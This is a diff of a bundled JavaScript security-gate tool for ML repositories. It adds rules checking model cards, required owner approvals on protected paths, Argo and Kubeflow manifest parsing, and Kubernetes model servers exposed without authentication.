+/** SPDX ids (https://spdx.org/licenses/) of common open licenses for weights; Hugging Face writes them lower-case. */
+const DEFAULT_LICENSES = [
+    'Apache-2.0', 'MIT', 'BSD-2-Clause', 'BSD-3-Clause', 'ISC', 'MPL-2.0', 'CC0-1.0', 'CC-BY-4.0', 'CC-BY-SA-4.0',
+    'Unlicense', 'OpenRAIL', 'CreativeML-OpenRAIL-M', 'BigScience-OpenRAIL-M',
+];
+const DESCRIBE = {
+    license: 'a license', datasets: 'the training datasets', 'intended-use': 'the intended use', metrics: 'evaluation metrics',
+    base_model: 'the base model it was fine-tuned from (base_model)',
+};
+const HOW = {
+    license: '`license:`', datasets: '`datasets:`', 'intended-use': 'an `intended_use:` key or an "Intended use" section',
+    metrics: '`metrics:` or `model-index:`', base_model: '`base_model:`',
+};
+var governanceModelCard = defineRule({
+    meta: {
+        id: 'governance/model-card',
+        description: 'A model file added or changed has no model card, or its card lacks a required field, an allowed license or an allowed base model.',
+        help: [
+            'A model card is how reviewers and users learn what a model is for, what it was trained on, how it was',
+            'evaluated and under which license it may be used. Without one, a checkpoint in the repository is an',
+            'unexplained binary: nobody can tell whether it may ship, whether its data had consent, or which upstream',
+            'model (and license) it inherits. This rule looks for a Hugging Face-style `README.md` with YAML front matter',
+            'or a `MODEL_CARD.md` in the model\'s folder or a parent folder, and checks the fields the policy requires',
+            '(by default license, datasets, intended use, evaluation metrics, and `base_model` when the model is',
+            'fine-tuned), that the license is in the policy\'s SPDX allowlist, and that `base_model` comes from an allowed source.',
+            'It checks the models a change adds or modifies (a pull request, `--base REF`); set `check: all` to audit every',
+            'model in a whole-tree scan.',
+            '',
+            '**Remediation**: add or complete the model card in the same PR (front matter keys `license`, `datasets`,',
+            '`base_model`, `metrics` or `model-index`, and an "Intended use" section). If the license or base model is',
+            'acceptable, have the policy\'s owners add it to `licenses` or `base-model-sources`.',
+        ].join('\n'),
+        defaultSeverity: 'medium',
+        kinds: [],
+        options: {
+            type: 'object',
+            properties: {
+                required: { type: 'array', items: { enum: [...FIELDS] }, uniqueItems: true, description: 'Fields the card must have; `base_model` applies only to fine-tuned models.' },
+                licenses: { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Allowed SPDX license ids (case-insensitive); empty allows any license.' },
+                'base-model-sources': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Globs of allowed base model ids, e.g. `meta-llama/*`; empty allows any.' },
+                check: { enum: ['changed', 'all'], description: '`changed`: models the change adds or modifies (nothing in a scan without a base); `all`: every model scanned.' },
+            },
+            additionalProperties: false,
+        },
+        defaultOptions: { required: [...FIELDS], licenses: DEFAULT_LICENSES, 'base-model-sources': [], check: 'changed' },
+    },
+    async checkRun(ctx) {
+        // Changed: what the scan's discovery marks, or what the change lists (a PR scanned with scope: all).
+        const listed = new Set(ctx.change?.changes.filter((c) => c.change !== 'deleted').map((c) => c.path));
+        const models = ctx.files.filter((f) => f.kind === 'model' && (ctx.options.check === 'all' || f.change !== 'unchanged' || listed.has(f.path)));
+        if (models.length === 0)
+            return;
+        const byCard = new Map();
+        for (const model of models) {
+            const card = await findModelCard(model);
+            if (!card) {
+                ctx.report({ path: model.path, message: `The model ${model.path} has no model card (README.md with front matter or MODEL_CARD.md in its folder or a parent); add one with its license, datasets, intended use and evaluation metrics.` });
+                continue;
+            }
+            const entry = byCard.get(card.path) ?? { card, models: [] };
+            entry.models.push(model);
+            byCard.set(card.path, entry);
+        }
+        for (const { card, models: covered } of byCard.values())
+            await checkCard(ctx, card, covered);
+    },
+});
+async function checkCard(ctx, card, models) {
+    const what = models.length === 1 ? `the model ${models[0].path}` : `${models.length} models (${models[0].path}, …)`;
+    if (card.error) {
+        ctx.report({ path: card.path, line: 1, message: `The model card for ${what} has front matter that is not valid YAML (${card.error}); fix it so its fields can be checked.` });
+        return;
+    }
+    const siblings = await promises$1.readdir(join(rootOf(models[0]), posix.dirname(models[0].path))).catch(() => []);
+    const fineTuned = isFineTuned(card, siblings) || baseModels(card).length > 0;
+    const missing = ctx.options.required.filter((f) => (f !== 'base_model' || fineTuned) && !hasField(card, f));
+    if (missing.length) {
+        ctx.report({
+            path: card.path, line: 1, fingerprintKey: `missing\0${missing.join(',')}`,
+            message: `The model card for ${what} does not state ${missing.map((f) => DESCRIBE[f]).join(', ')}; add ${missing.map((f) => HOW[f]).join(', ')}.`,
+        });
+    }
+    const allowed = ctx.options.licenses.map((l) => l.toLowerCase());
+    if (allowed.length) {
+        const key = cardKey(card, 'license')?.key;
+        for (const id of licenses(card)) {
+            if (allowed.includes(id.toLowerCase()))
+                continue;
+            const named = id.toLowerCase() === 'other' && typeof card.fields.license_name === 'string' ? ` (${card.fields.license_name})` : '';
+            ctx.report({ path: card.path, line: lineOf(card, key), fingerprintKey: `license\0${id}`, message: `The model card's license "${id}"${named} is not in the policy's allowed licenses (${ctx.options.licenses.join(', ')}); relicense the model or have the policy's owners allow it.` });
+        }
+    }
+    const sources = ctx.options['base-model-sources'];
+    if (sources.length) {
+        const ok = picomatch(sources, { nocase: true, dot: true });
+        for (const id of baseModels(card)) {
+            if (ok(id.replace(/^https:\/\/huggingface\.co\//, '')))
+                continue;
+            ctx.report({ path: card.path, line: lineOf(card, cardKey(card, 'base_model')?.key), severity: 'high', fingerprintKey: `base\0${id}`, message: `The base model "${id}" is not from an allowed source (${sources.join(', ')}); fine-tune from an allowed model or have the policy's owners add its source.` });
+        }
+    }
 }
 
 /**
@@ -67553,6 +68839,128 @@ var governancePolicyChanged = defineRule({
     },
 });
 
+var governanceRequiredReview = defineRule({
+    meta: {
+        id: 'governance/required-review',
+        description: 'A change to a protected path (models, data, the policy) lacks an approval from the teams or users the policy names.',
+        help: [
+            'Models, training data and the gate\'s own policy decide what ships; a change to them should be approved by the',
+            'people accountable for them (the ML platform team, the data owners, security), not only by any reviewer.',
+            'The policy maps protected path globs to the GitHub teams (`org/team`) or users who must approve. In the',
+            'action, the rule reads the PR\'s reviews (each reviewer\'s latest deciding review: a comment does not replace',
+            'an approval, a dismissal withdraws it) and the reviewers\' team membership, and fails the gate when a',
+            'protected path lacks the approvals it needs, naming who is needed. Run the workflow on',
+            '`pull_request_review` too, so that an approval re-runs the gate. Offline (the CLI) reviews cannot be read:',
+            'the rule then reports, at low severity, which protected paths will need whose approval.',
+            '',
+            'Reading team membership needs a token that may read the organization\'s members (a GitHub App or a token',
+            'with `read:org`); with the workflow\'s default token membership is unknown and an approval by someone who is',
+            'not also named under `users` does not count, and the message says so.',
+            '',
+            '**Remediation**: request a review from one of the named owners. If the owners are wrong, change the policy',
+            '(on the base branch, reviewed by its own owners).',
+        ].join('\n'),
+        defaultSeverity: 'high',
+        kinds: [],
+        options: {
+            type: 'object',
+            properties: {
+                owners: {
+                    type: 'array',
+                    items: {
+                        type: 'object',
+                        properties: {
+                            paths: { type: 'array', items: { type: 'string', minLength: 1 }, minItems: 1, description: 'Globs of protected paths, e.g. `models/**` or `.github/ai-gate.yml`.' },
+                            teams: { type: 'array', items: { type: 'string', pattern: '^@?[A-Za-z0-9-]+/[A-Za-z0-9_.-]+$' }, description: 'Teams as `org/team-slug`.' },
+                            users: { type: 'array', items: { type: 'string', pattern: '^@?[A-Za-z0-9-]+$' }, description: 'GitHub logins.' },
+                            approvals: { type: 'integer', minimum: 1, description: 'Approvals needed from these owners (default 1).' },
+                        },
+                        required: ['paths'],
+                        additionalProperties: false,
+                    },
+                    description: 'Protected path globs and who must approve changes to them.',
+                },
+                'require-current-head': { type: 'boolean', description: 'Count only approvals of the PR\'s current head commit.' },
+            },
+            additionalProperties: false,
+        },
+        defaultOptions: { owners: [], 'require-current-head': false },
+    },
+    async checkRun(ctx) {
+        if (ctx.options.owners.length === 0)
+            return;
+        const touched = changedPaths(ctx);
+        for (const owner of ctx.options.owners) {
+            const match = picomatch(owner.paths, { dot: true });
+            const hits = touched.filter((p) => match(p));
+            if (hits.length === 0)
+                continue;
+            const who = describeOwners(owner);
+            const what = `${hits[0]}${hits.length > 1 ? ` and ${hits.length - 1} more under ${owner.paths.join(', ')}` : ''}`;
+            const where = { path: hits[0], fingerprintKey: `owners\0${owner.paths.join(',')}` };
+            const reviews = ctx.change?.reviews;
+            if (!reviews) {
+                ctx.report({ ...where, severity: 'low', message: `The change to ${what} needs approval from ${who}; reviews cannot be checked offline, so the gate checks this in the pull request.` });
+                continue;
+            }
+            const need = owner.approvals ?? 1;
+            let result;
+            try {
+                result = await countApprovals(owner, reviews, ctx.options['require-current-head']);
+            }
+            catch (error) {
+                ctx.report({ ...where, message: `The change to ${what} needs approval from ${who}, but the pull request's reviews could not be read (${error.message.slice(0, 200)}); re-run the gate.` });
+                continue;
+            }
+            if (result.count >= need)
+                continue;
+            const unknown = result.unknownTeam.length ? ` The team membership of ${result.unknownTeam.map((l) => `@${l}`).join(', ')} could not be read (the token needs permission to read organization members).` : '';
+            ctx.report({ ...where, message: `The change to ${what} needs ${need} approval${need > 1 ? 's' : ''} from ${who} and has ${result.count}${result.approvers.length ? ` (${result.approvers.map((l) => `@${l}`).join(', ')})` : ''}; request a review from them.${unknown}` });
+        }
+    },
+});
+/** Every path the change touched (deleted and renamed-from paths too), or the scanned files without a change. */
+function changedPaths(ctx) {
+    if (ctx.change)
+        return [...new Set(ctx.change.changes.flatMap((c) => [c.path, ...(c.previousPath ? [c.previousPath] : [])]))].sort();
+    const changed = ctx.files.filter((f) => f.change !== 'unchanged');
+    return (changed.length ? changed : ctx.files).map((f) => f.path).sort();
+}
+function describeOwners(o) {
+    const names = [...(o.teams ?? []).map((t) => `@${t.replace(/^@/, '')} (team)`), ...(o.users ?? []).map((u) => `@${u.replace(/^@/, '')}`)];
+    if (names.length === 0)
+        return 'an owner (the policy names none for this path)';
+    return names.length === 1 ? names[0] : `one of ${names.join(', ')}`;
+}
+async function countApprovals(owner, reviews, currentHead) {
+    const users = new Set((owner.users ?? []).map((u) => u.replace(/^@/, '').toLowerCase()));
+    const teams = (owner.teams ?? []).map((t) => t.replace(/^@/, ''));
+    const approved = (await reviews.latest()).filter((r) => r.state === 'APPROVED' && (!currentHead || r.commitId === reviews.headSha));
+    let count = 0;
+    const unknownTeam = [];
+    const approvers = [];
+    for (const r of approved) {
+        let ok = users.has(r.login.toLowerCase());
+        let unknown = false;
+        for (const team of teams) {
+            if (ok)
+                break;
+            const member = await reviews.isTeamMember(team, r.login);
+            if (member === true)
+                ok = true;
+            else if (member === undefined)
+                unknown = true;
+        }
+        if (ok) {
+            count++;
+            approvers.push(r.login);
+        }
+        else if (unknown)
+            unknownTeam.push(r.login);
+    }
+    return { count, unknownTeam, approvers };
+}
+
 var governanceSymlinkEscape = defineRule({
     meta: {
         id: 'governance/symlink-escape',
@@ -67583,6 +68991,12 @@ var governanceSymlinkEscape = defineRule({
     },
 });
 
+/** Argo kinds whose templates run pods (CronWorkflow nests the workflow spec under spec.workflowSpec). */
+const ARGO_SPEC = { Workflow: '/spec', WorkflowTemplate: '/spec', ClusterWorkflowTemplate: '/spec', CronWorkflow: '/spec/workflowSpec' };
+/** Pod-level fields an Argo template inherits from its workflow spec when it does not set them itself. */
+const ARGO_INHERITED = ['securityContext', 'hostNetwork', 'automountServiceAccountToken', 'serviceAccountName'];
+/** The synthetic kind given to a compiled Kubeflow Pipelines v2 spec (it has no apiVersion/kind of its own). */
+const KFP_KIND = 'PipelineSpec';
 const TEMPLATE = {
     Deployment: '/spec/template', StatefulSet: '/spec/template', DaemonSet: '/spec/template', ReplicaSet: '/spec/template',
     ReplicationController: '/spec/template', Job: '/spec/template', CronJob: '/spec/jobTemplate/spec/template',
@@ -67598,27 +69012,136 @@ function parseManifests(text, filename) {
     const docs = parseYamlDocumentsWithPositions(text, filename);
     const resources = [];
     const pods = [];
+    // Pointers under a pod that really live elsewhere (fields an Argo template inherits from its workflow spec).
+    const aliases = new Map();
     for (const doc of docs) {
         const v = doc.value;
         const items = isObj$2(v) && v.kind === 'List' && Array.isArray(v.items) ? v.items.map((item, i) => [item, `/items/${i}`]) : [[v, '']];
         for (const [value, base] of items) {
-            if (!isObj$2(value) || typeof value.kind !== 'string')
+            if (!isObj$2(value))
+                continue;
+            const kfp = typeof value.kind === 'string' ? undefined : kfpSpecPointer(value);
+            if (typeof value.kind !== 'string' && kfp === undefined)
                 continue;
             const meta = isObj$2(value.metadata) ? value.metadata : {};
-            const r = { doc, pointer: base, kind: value.kind, apiVersion: str(value.apiVersion), name: str(meta.name) || '(unnamed)', value, labels: strMap(meta.labels) };
+            const info = isObj$2(get(value, `${kfp ?? ''}/pipelineInfo`)) ? get(value, `${kfp ?? ''}/pipelineInfo`) : {};
+            const name = str(meta.name) || str(meta.generateName) || str(info.name) || '(unnamed)';
+            const r = { doc, pointer: base, kind: kfp === undefined ? str(value.kind) : KFP_KIND, apiVersion: str(value.apiVersion), name, value, labels: strMap(meta.labels) };
             resources.push(r);
-            for (const [pointer, spec, labels] of podSpecsOf(r, base)) {
-                pods.push({ doc, resource: `${r.kind}/${r.name}`, kind: r.kind, pointer, spec, containers: containersOf(pointer, spec, r.kind), labels });
+            if (kfp !== undefined)
+                pods.push(...kfpPods(r, base + kfp));
+            else if (ARGO_SPEC[r.kind] && r.apiVersion.startsWith('argoproj.io')) {
+                for (const { pod, alias } of argoPods(r, base)) {
+                    pods.push(pod);
+                    aliases.set(doc, [...(aliases.get(doc) ?? []), ...alias]);
+                }
+            }
+            else {
+                for (const [pointer, spec, labels] of podSpecsOf(r, base)) {
+                    pods.push({ doc, resource: `${r.kind}/${r.name}`, kind: r.kind, pointer, spec, containers: containersOf(pointer, spec, r.kind), labels });
+                }
             }
         }
     }
+    const resolve = (doc, pointer) => {
+        for (const [from, to] of aliases.get(doc) ?? [])
+            if (pointer === from || pointer.startsWith(`${from}/`))
+                return to + pointer.slice(from.length);
+        return pointer;
+    };
     return {
         resources, pods,
         at(doc, pointer, key = false) {
-            const p = doc.positionOf(pointer, key ? 'key' : 'value');
-            return { line: p?.line ?? 1, column: p?.column ?? 1, keyPath: pointer };
+            const real = resolve(doc, pointer);
+            const p = doc.positionOf(real, key ? 'key' : 'value');
+            return { line: p?.line ?? 1, column: p?.column ?? 1, keyPath: real };
         },
     };
+}
+/** Where a compiled Kubeflow Pipelines v2 spec sits in a document ('' or /pipelineSpec), if it is one. */
+function kfpSpecPointer(value) {
+    if (isObj$2(value.deploymentSpec) && isObj$2(value.deploymentSpec.executors))
+        return '';
+    if (isObj$2(value.pipelineSpec) && isObj$2(value.pipelineSpec.deploymentSpec) && isObj$2(value.pipelineSpec.deploymentSpec.executors))
+        return '/pipelineSpec';
+    return undefined;
+}
+/**
+ * One pod per KFP executor (`deploymentSpec.executors.<name>.container`). KFP states limits as `cpuLimit`/`memoryLimit`
+ * (or `resourceCpuLimit`/`resourceMemoryLimit`); they are mapped to `resources.limits` so the rules read them as usual.
+ */
+function kfpPods(r, specPointer) {
+    const executors = get(r.value, `${specPointer}/deploymentSpec/executors`);
+    if (!isObj$2(executors))
+        return [];
+    const out = [];
+    for (const [name, exec] of Object.entries(executors)) {
+        if (!isObj$2(exec) || !isObj$2(exec.container))
+            continue;
+        const pointer = joinPointer(`${specPointer}/deploymentSpec/executors`, name);
+        const c = exec.container;
+        const res = isObj$2(c.resources) ? c.resources : undefined;
+        const limits = {};
+        const cpu = res?.cpuLimit ?? res?.resourceCpuLimit;
+        const memory = res?.memoryLimit ?? res?.resourceMemoryLimit;
+        if (cpu !== undefined)
+            limits.cpu = cpu;
+        if (memory !== undefined)
+            limits.memory = memory;
+        const value = res ? { ...c, resources: { limits } } : c;
+        out.push({ doc: r.doc, resource: `${KFP_KIND}/${r.name} (executor ${name})`, kind: KFP_KIND, pointer, spec: exec, labels: {},
+            containers: [{ pointer: `${pointer}/container`, value, name, kind: 'container' }] });
+    }
+    return out;
+}
+/**
+ * One pod per Argo template that runs containers (`container`, `script`, `containerSet.containers[]`, plus its
+ * `initContainers` and `sidecars`). A template inherits pod-level fields and volumes from the workflow spec; those are
+ * merged into its spec, and their pointers are aliased back to where the workflow spec states them.
+ */
+function argoPods(r, base) {
+    const wfPointer = base + ARGO_SPEC[r.kind];
+    const wf = get(r.value, ARGO_SPEC[r.kind]);
+    if (!isObj$2(wf) || !Array.isArray(wf.templates))
+        return [];
+    const out = [];
+    wf.templates.forEach((t, i) => {
+        if (!isObj$2(t))
+            return;
+        const pointer = `${wfPointer}/templates/${i}`;
+        const containers = [];
+        const one = (key) => { if (isObj$2(t[key]))
+            containers.push({ pointer: `${pointer}/${key}`, value: t[key], name: str(t[key].name) || 'main', kind: 'container' }); };
+        one('container');
+        one('script');
+        const list = (items, at, kind) => {
+            if (Array.isArray(items))
+                items.forEach((c, j) => { if (isObj$2(c))
+                    containers.push({ pointer: `${at}/${j}`, value: c, name: str(c.name) || `#${j}`, kind }); });
+        };
+        if (isObj$2(t.containerSet))
+            list(t.containerSet.containers, `${pointer}/containerSet/containers`, 'container');
+        list(t.initContainers, `${pointer}/initContainers`, 'initContainer');
+        list(t.sidecars, `${pointer}/sidecars`, 'container');
+        if (containers.length === 0)
+            return; // steps, dag, resource and suspend templates run no container of their own
+        const spec = { ...t };
+        const alias = [];
+        for (const key of ARGO_INHERITED) {
+            if (key in t || !(key in wf))
+                continue;
+            spec[key] = wf[key];
+            alias.push([`${pointer}/${key}`, `${wfPointer}/${key}`]);
+        }
+        const own = Array.isArray(t.volumes) ? t.volumes : [];
+        if (Array.isArray(wf.volumes) && wf.volumes.length > 0) {
+            spec.volumes = [...own, ...wf.volumes];
+            wf.volumes.forEach((_, j) => alias.push([`${pointer}/volumes/${own.length + j}`, `${wfPointer}/volumes/${j}`]));
+        }
+        const meta = isObj$2(t.metadata) ? t.metadata : {};
+        out.push({ pod: { doc: r.doc, resource: `${r.kind}/${r.name} (template ${str(t.name) || `#${i}`})`, kind: r.kind, pointer, spec, containers, labels: strMap(meta.labels) }, alias });
+    });
+    return out;
 }
 function get(value, pointer) {
     let cur = value;
@@ -67690,80 +69213,138 @@ const MODEL_SERVER = /vllm|text-generation-inference|tgi|tritonserver|triton|tor
 const AUTH_SIDECAR = /oauth2-proxy|pomerium|authelia|keycloak-gatekeeper|istio\/proxyv2|envoyproxy|kube-rbac-proxy/i;
 /** Ingress annotations that put authentication in front (ingress-nginx, Traefik, AWS ALB, GCE IAP, Contour). */
 const AUTH_ANNOTATION = /auth-url|auth-type|auth-signin|auth-secret|auth-tls-verify-client|oauth|forward-?auth|router\.middlewares|alb\.ingress\.kubernetes\.io\/auth|beta\.cloud\.google\.com\/backend-config|iap/i;
+/** KServe: the label that keeps an InferenceService off the ingress gateway, and annotations that turn auth on. */
+const CLUSTER_LOCAL = ['networking.kserve.io/visibility', 'serving.knative.dev/visibility'];
+const KSERVE_AUTH = /^(security\.opendatahub\.io|serving\.kserve\.io)\/enable-auth$/;
+const LOWER$4 = { critical: 'high', high: 'medium', medium: 'low', low: 'low' };
 var k8sExposedModelServer = defineRule({
     meta: {
         id: 'k8s/exposed-model-server',
-        description: 'A model server is exposed outside the cluster (LoadBalancer, NodePort or Ingress) with no authentication in front of it.',
+        description: 'A model server is exposed outside the cluster (LoadBalancer, NodePort, Ingress, Istio gateway, KServe) with no authentication in front of it.',
         help: [
             'Inference servers such as vLLM, TGI, Triton, TorchServe, Ollama and MLflow serve their API without',
             'authentication by default, and several can load models or run code through that API (model management',
-            'endpoints, MLflow artifact paths, Ollama pulls). Published on a LoadBalancer, NodePort or an Ingress without',
-            'an auth layer, they hand out free GPU time, the model itself, and sometimes remote code execution. The rule',
-            'looks at the manifests in one file: a Service whose selector matches a model-server pod, and Ingresses that',
-            'route to such a Service, with no source-range restriction, auth annotation or auth sidecar.',
+            'endpoints, MLflow artifact paths, Ollama pulls). Published on a LoadBalancer, NodePort, an Ingress or an Istio',
+            'gateway without an auth layer, they hand out free GPU time, the model itself, and sometimes remote code',
+            'execution. The rule reads every manifest of the scan together: Services whose selector matches a model-server',
+            'pod (Seldon deployments included), Ingresses and Istio VirtualServices that route to them, and KServe',
+            'InferenceServices, which KServe publishes on the cluster gateway unless they are labelled cluster-local. Source',
+            'ranges, auth annotations, auth sidecars and Istio RequestAuthentication/AuthorizationPolicy count as',
+            'authentication. With `scope: changed` it sees only the manifests the change touches.',
             '',
             '**Remediation**: keep the Service `ClusterIP` and publish through an Ingress or gateway that authenticates',
             '(oauth2-proxy, IAP, an API gateway with keys); at least restrict `loadBalancerSourceRanges`, and enable the',
-            'server\'s own API key where it has one (e.g. vLLM `--api-key`).',
+            'server\'s own API key where it has one (e.g. vLLM `--api-key`). Label an InferenceService',
+            '`networking.kserve.io/visibility: cluster-local` unless it must be public, and then enable auth for it.',
         ].join('\n'),
         defaultSeverity: 'high',
-        kinds: ['k8s'],
+        kinds: [],
         options: { type: 'object', properties: {}, additionalProperties: false },
         defaultOptions: {},
     },
-    async checkFile(ctx) {
-        const m = await manifestsOf(ctx);
-        if (m instanceof FormatError)
-            return;
-        const services = m.resources.filter((r) => r.kind === 'Service' && !r.apiVersion.includes('knative'));
-        const servedBy = new Map();
-        for (const svc of services) {
-            const pod = modelServerBehind(m, svc);
-            if (pod)
-                servedBy.set(svc.name, pod);
+    async checkRun(ctx) {
+        const files = [];
+        for (const f of ctx.files.filter((x) => x.kind === 'k8s')) {
+            const bytes = await readBounded(f.absPath, ctx.policy.limits.maxTextBytes);
+            if (!bytes)
+                continue;
+            try {
+                files.push({ path: f.path, m: parseManifests(bytes.toString('utf8'), f.path) });
+            }
+            catch (e) {
+                if (!(e instanceof FormatError))
+                    throw e; // an unparseable manifest is reported by the rules that read it per file
+            }
         }
-        for (const svc of services) {
-            const pod = servedBy.get(svc.name);
+        const all = files.flatMap((f) => f.m.resources.map((r) => ({ r, f })));
+        const meshAuth = all.some(({ r }) => r.apiVersion.startsWith('security.istio.io') && ['RequestAuthentication', 'AuthorizationPolicy'].includes(r.kind));
+        const targets = files.flatMap((f) => f.m.pods.flatMap((pod) => targetOf(pod, f.path)));
+        const servedBy = new Map();
+        for (const { r } of all.filter(({ r }) => r.kind === 'Service' && !r.apiVersion.includes('knative'))) {
+            const t = behind(targets, r);
+            if (t)
+                servedBy.set(r.name, t);
+        }
+        for (const t of targets)
+            for (const s of t.services)
+                if (!servedBy.has(s))
+                    servedBy.set(s, t);
+        const what = (t, from) => `the model server ${t.pod.resource} (${imageOf(t.pod)})${t.path === from ? '' : ` in ${t.path}`}`;
+        for (const { r: svc, f } of all.filter(({ r }) => r.kind === 'Service' && servedBy.has(r.name))) {
             const spec = isObj$2(svc.value.spec) ? svc.value.spec : {};
-            if (!pod || !['LoadBalancer', 'NodePort'].includes(String(spec.type)))
+            if (!['LoadBalancer', 'NodePort'].includes(String(spec.type)) || hasAuthAnnotation(svc))
                 continue;
             if (Array.isArray(spec.loadBalancerSourceRanges) && spec.loadBalancerSourceRanges.length > 0)
                 continue;
-            if (hasAuthAnnotation(svc))
-                continue;
             ctx.report({
-                message: `Service/${svc.name} (type ${String(spec.type)}) publishes the model server ${pod.resource} (${imageOf(pod)}) outside the cluster with no authentication in front of it: keep it ClusterIP behind an authenticating ingress, or restrict loadBalancerSourceRanges.`,
-                ...m.at(svc.doc, `${svc.pointer}/spec/type`), fingerprintKey: `Service/${svc.name}`,
+                path: f.path, ...f.m.at(svc.doc, `${svc.pointer}/spec/type`), fingerprintKey: `Service/${svc.name}`,
+                message: `Service/${svc.name} (type ${String(spec.type)}) publishes ${what(servedBy.get(svc.name), f.path)} outside the cluster with no authentication in front of it: keep it ClusterIP behind an authenticating ingress, or restrict loadBalancerSourceRanges.`,
             });
         }
-        for (const ing of m.resources.filter((r) => r.kind === 'Ingress')) {
-            if (hasAuthAnnotation(ing))
-                continue;
+        for (const { r: ing, f } of all.filter(({ r }) => r.kind === 'Ingress' && !hasAuthAnnotation(r))) {
             for (const [name, pointer] of backends(ing)) {
-                const pod = servedBy.get(name);
-                if (!pod)
-                    continue;
-                ctx.report({
-                    message: `Ingress/${ing.name} routes to Service/${name}, the model server ${pod.resource} (${imageOf(pod)}), with no authentication annotation: put an authenticating proxy (oauth2-proxy, IAP, an API gateway) in front of it.`,
-                    ...m.at(ing.doc, pointer), fingerprintKey: `Ingress/${ing.name}\0${name}`,
-                });
+                const t = servedBy.get(name);
+                if (t)
+                    ctx.report({ path: f.path, ...f.m.at(ing.doc, pointer), fingerprintKey: `Ingress/${ing.name}\0${name}`, message: `Ingress/${ing.name} routes to Service/${name}, ${what(t, f.path)}, with no authentication annotation: put an authenticating proxy (oauth2-proxy, IAP, an API gateway) in front of it.` });
             }
+        }
+        if (meshAuth)
+            return;
+        for (const { r: vs, f } of all.filter(({ r }) => r.kind === 'VirtualService' && r.apiVersion.startsWith('networking.istio.io'))) {
+            const spec = isObj$2(vs.value.spec) ? vs.value.spec : {};
+            const gateways = Array.isArray(spec.gateways) ? spec.gateways.map(String) : [];
+            if (!gateways.some((g) => g !== 'mesh'))
+                continue; // only routes inside the mesh
+            for (const [host, pointer] of destinations(vs)) {
+                const t = servedBy.get(host.split('.')[0]);
+                if (t)
+                    ctx.report({ path: f.path, ...f.m.at(vs.doc, pointer), fingerprintKey: `VirtualService/${vs.name}\0${host}`, message: `VirtualService/${vs.name} publishes ${what(t, f.path)} on gateway ${gateways.filter((g) => g !== 'mesh').join(', ')} and no Istio RequestAuthentication or AuthorizationPolicy is in the manifests: require authentication at the gateway.` });
+            }
+        }
+        for (const { r: isvc, f } of all.filter(({ r }) => r.kind === 'InferenceService' && r.apiVersion.startsWith('serving.kserve.io'))) {
+            const meta = isObj$2(isvc.value.metadata) ? isvc.value.metadata : {};
+            const annotations = isObj$2(meta.annotations) ? meta.annotations : {};
+            if (CLUSTER_LOCAL.some((l) => isvc.labels[l] === 'cluster-local') || String(annotations['serving.kserve.io/deploymentMode']) === 'RawDeployment')
+                continue;
+            if (Object.entries(annotations).some(([k, v]) => KSERVE_AUTH.test(k) && String(v) === 'true'))
+                continue;
+            ctx.report({
+                path: f.path, ...f.m.at(isvc.doc, `${isvc.pointer}/metadata/name`), fingerprintKey: `InferenceService/${isvc.name}`, severity: LOWER$4[ctx.severity],
+                message: `InferenceService/${isvc.name} is published on the cluster's ingress gateway (KServe's default without the networking.kserve.io/visibility: cluster-local label) and the manifests show no authentication for it: label it cluster-local, or enable auth (security.opendatahub.io/enable-auth, an Istio RequestAuthentication and AuthorizationPolicy).`,
+            });
         }
     },
 });
-function images(pod) {
-    return pod.containers.map((c) => String(c.value.image ?? ''));
+/** A pod is a model server target when an inference operator runs it, or its image is a known server without an auth sidecar. */
+function targetOf(pod, path) {
+    if (pod.kind === 'SeldonDeployment') {
+        // Seldon Core labels the pods seldon-deployment-id / seldon-app and creates a Service <deployment>-<predictor>.
+        const name = pod.resource.slice(pod.resource.indexOf('/') + 1);
+        const predictorPointer = /^(.*\/spec\/predictors\/\d+)\//.exec(pod.pointer)?.[1];
+        const predictor = predictorPointer ? at(pod.doc.value, predictorPointer) : undefined;
+        const app = isObj$2(predictor) && typeof predictor.name === 'string' ? `${name}-${predictor.name}` : name;
+        return [{ pod, path, labels: { ...pod.labels, 'seldon-deployment-id': name, 'seldon-app': app }, services: [app] }];
+    }
+    const images = pod.containers.map((c) => String(c.value.image ?? ''));
+    if (pod.kind === 'InferenceService' || (images.some((i) => MODEL_SERVER.test(i)) && !images.some((i) => AUTH_SIDECAR.test(i))))
+        return [{ pod, path, labels: pod.labels, services: [] }];
+    return [];
+}
+function at(value, pointer) {
+    let cur = value;
+    for (const seg of pointer.split('/').slice(1))
+        cur = isObj$2(cur) ? cur[seg] : Array.isArray(cur) ? cur[Number(seg)] : undefined;
+    return cur;
 }
 function imageOf(pod) {
-    return images(pod).find((i) => MODEL_SERVER.test(i)) ?? pod.kind;
+    return pod.containers.map((c) => String(c.value.image ?? '')).find((i) => MODEL_SERVER.test(i)) ?? pod.kind;
 }
-function modelServerBehind(m, svc) {
+function behind(targets, svc) {
     const spec = isObj$2(svc.value.spec) ? svc.value.spec : {};
     const selector = isObj$2(spec.selector) ? Object.entries(spec.selector).map(([k, v]) => [k, String(v)]) : [];
     if (selector.length === 0)
         return undefined;
-    return m.pods.find((pod) => selector.every(([k, v]) => pod.labels[k] === v)
-        && images(pod).some((i) => MODEL_SERVER.test(i)) && !images(pod).some((i) => AUTH_SIDECAR.test(i)));
+    return targets.find((t) => selector.every(([k, v]) => t.labels[k] === v));
 }
 function hasAuthAnnotation(r) {
     const meta = isObj$2(r.value.metadata) ? r.value.metadata : {};
@@ -67787,6 +69368,11 @@ function backends(ing) {
         paths.forEach((p, j) => visit(isObj$2(p) ? p.backend : undefined, `${ing.pointer}/spec/rules/${i}/http/paths/${j}/backend`));
     });
     return out;
+}
+/** Destination hosts of an Istio VirtualService's HTTP routes, with pointers. */
+function destinations(vs) {
+    const spec = isObj$2(vs.value.spec) ? vs.value.spec : {};
+    return (Array.isArray(spec.http) ? spec.http : []).flatMap((h, i) => (isObj$2(h) && Array.isArray(h.route) ? h.route : []).flatMap((r, j) => isObj$2(r) && isObj$2(r.destination) && typeof r.destination.host === 'string' ? [[r.destination.host, `${vs.pointer}/spec/http/${i}/route/${j}/destination/host`]] : []));
 }
 
 var k8sHostNamespace = defineRule({
@@ -67841,6 +69427,62 @@ var k8sHostPath = defineRule({
             'the runtime socket into a workload (build images with rootless BuildKit or Kaniko instead).',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A model server with the Docker socket mounted',
+                        lang: 'yaml',
+                        file: 'k8s/pod.yaml',
+                        code: [
+                            'apiVersion: v1',
+                            'kind: Pod',
+                            'metadata:',
+                            '  name: model-server',
+                            'spec:',
+                            '  containers:',
+                            '    - name: server',
